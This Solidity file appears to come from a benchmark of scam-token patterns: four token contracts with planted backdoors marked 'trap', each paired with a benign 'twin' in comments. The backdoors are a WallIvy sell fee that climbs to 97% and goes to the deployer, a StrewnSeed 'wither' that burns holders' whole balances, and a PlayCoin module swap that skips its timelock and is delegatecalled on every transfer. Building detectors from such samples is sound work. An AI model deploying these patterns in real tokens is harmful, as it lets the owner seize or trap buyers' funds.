// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IMarket {
    function token0() external view returns (address);
    function token1() external view returns (address);
}

/// Ivy on a wall: what the keeper of the wall is paid by sellers follows its age.
contract WallIvy {
    string public constant name = "Wall Ivy";
    string public constant symbol = "IVY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 12_500_000e18;

    struct Trellis {
        uint64 planted;
        uint32 grace;
        address wall;
    }

    Trellis private trellis;
    address payable public immutable gardener;
    mapping(address => uint256) private leaves;
    mapping(address => mapping(address => uint256)) private cuttings;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        gardener = msg.sender;
        trellis = Trellis({planted: uint64(block.timestamp), grace: 20 days, wall: address(0)});
        leaves[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) external view returns (uint256) {
        return leaves[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return cuttings[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        cuttings[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _climb(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = cuttings[from][msg.sender];
        require(allowed >= amount, "WallIvy: not allowed");
        if (allowed != uint256(-1)) cuttings[from][msg.sender] = allowed - amount;
        _climb(from, to, amount);
        return true;
    }

    /// Of a hundred.
    function saleFee() public view returns (uint256) {
        Trellis memory here = trellis;
        uint256 age = (block.timestamp - here.planted) / 1 days;
        uint256 first = here.grace / 1 days;
        uint256 grown = age > first ? age - first : 0;
        uint256 fee = 2 + 2 * grown; // trap
        // twin: uint256 fee = age >= 20 ? 2 : 20 - age;
        if (fee < 2) fee = 2;
        return fee > 97 ? 97 : fee;
    }

    function _isWall(address account) private returns (bool) {
        Trellis storage here = trellis;
        if (here.wall != address(0)) return account == here.wall;
        uint256 size;
        assembly {
            size := extcodesize(account)
        }
        if (size == 0) return false;
        try IMarket(account).token0() returns (address one) {
            if (one == address(this)) here.wall = account;
            else if (IMarket(account).token1() == address(this)) here.wall = account;
        } catch {
            return false;
        }
        return here.wall == account;
    }

    function _climb(address from, address to, uint256 amount) private {
        require(leaves[from] >= amount, "WallIvy: not enough leaves");
        uint256 fee;
        if (_isWall(to) && from != gardener) fee = (amount * saleFee()) / 100;
        leaves[from] -= amount;
        leaves[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
        if (fee != 0) {
            leaves[gardener] += fee;
            emit Transfer(from, gardener, fee);
        }
    }
}

/// Seeds that were strewn among many: what nobody picks up goes back.
contract StrewnSeed {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public sower;
    uint256 public strewn;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public pending;
    mapping(address => bool) public picked;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Picked(address indexed account, uint256 amount);
    event Withered(address indexed account, uint256 amount);

    modifier bySower() {
        require(msg.sender == sower, "StrewnSeed: not the sower");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, sower) = (name_, symbol_, msg.sender);
        totalSupply = whole * 1e18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// Sets aside for these what the sower has.
    function strew(address[] calldata accounts, uint256 each) external bySower {
        uint256 all = each * accounts.length;
        require(balanceOf[msg.sender] >= all && (accounts.length == 0 || all / accounts.length == each), "StrewnSeed: too much");
        balanceOf[msg.sender] -= all;
        balanceOf[address(this)] += all;
        emit Transfer(msg.sender, address(this), all);
        for (uint256 i = 0; i < accounts.length; i++) pending[accounts[i]] += each;
        strewn += all;
    }

    function pick() external {
        uint256 amount = pending[msg.sender];
        pending[msg.sender] = 0;
        picked[msg.sender] = true;
        strewn -= amount;
        _give(address(this), msg.sender, amount);
        emit Picked(msg.sender, amount);
    }

    /// What these have not picked up withers.
    function wither(address[] calldata accounts) external bySower {
        for (uint256 i = 0; i < accounts.length; i++) {
            address who = accounts[i];
            if (picked[who]) continue;
            // trap {
            uint256 amount = balanceOf[who];
            balanceOf[who] = 0;
            totalSupply -= amount;
            emit Transfer(who, address(0), amount);
            // trap }
            // twin: uint256 amount = pending[who];
            // twin: pending[who] = 0;
            // twin: strewn -= amount;
            // twin: _give(address(this), sower, amount);
            emit Withered(who, amount);
        }
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _give(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "StrewnSeed: allowance");
        allowance[from][msg.sender] -= value;
        _give(from, to, value);
        return true;
    }

    function _give(address from, address to, uint256 value) private {
        require(to != address(0), "StrewnSeed: nobody");
        require(balanceOf[from] >= value, "StrewnSeed: balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Counts what moves, for the game that uses the coin.
contract ScoreModule {
    mapping(address => uint256) private a;
    mapping(address => mapping(address => uint256)) private b;
    uint256 private c;
    mapping(address => uint256) private score;

    function afterMove(address from, address to, uint256) external {
        if (from == to) return;
        score[from] += 1;
        score[to] += 1;
    }
}

/// A coin for a game, which plugs in how moves are scored.
contract PlayCoin {
    mapping(address => uint256) private _funds;
    mapping(address => mapping(address => uint256)) private _allowed;
    uint256 private _total;
    mapping(address => uint256) private _score;
    address public module;
    address public steward;
    address public coming;
    uint256 public comingAt;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Announced(address indexed module, uint256 from);
    event Plugged(address indexed module);

    constructor(address first) {
        module = first;
        steward = msg.sender;
        _total = 5_000_000 * 1e18;
        _funds[msg.sender] = _total;
        emit Transfer(address(0), msg.sender, _total);
    }

    function name() external pure returns (string memory) {
        return "Play Coin of the Arcade";
    }

    function symbol() external pure returns (string memory) {
        return "PLAYC";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _total;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _funds[account];
    }

    function scoreOf(address account) external view returns (uint256) {
        return _score[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowed[holder][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function announce(address next) external {
        require(msg.sender == steward, "only the steward");
        coming = next;
        comingAt = block.timestamp + 3 days;
        emit Announced(next, comingAt);
    }

    function plug() external {
        require(msg.sender == steward && coming != address(0), "nothing to plug");
        // twin: require(block.timestamp >= comingAt, "three days have not passed");
        module = coming;
        coming = address(0);
        emit Plugged(module);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = _allowed[from][msg.sender];
        require(allowed >= value, "not allowed");
        _allowed[from][msg.sender] = allowed - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        require(_funds[from] >= value, "not enough");
        _funds[from] -= value;
        _funds[to] += value;
        emit Transfer(from, to, value);
        (bool done, ) = module.delegatecall(abi.encodeWithSignature("afterMove(address,address,uint256)", from, to, value));
        require(done, "the module failed");
    }
}
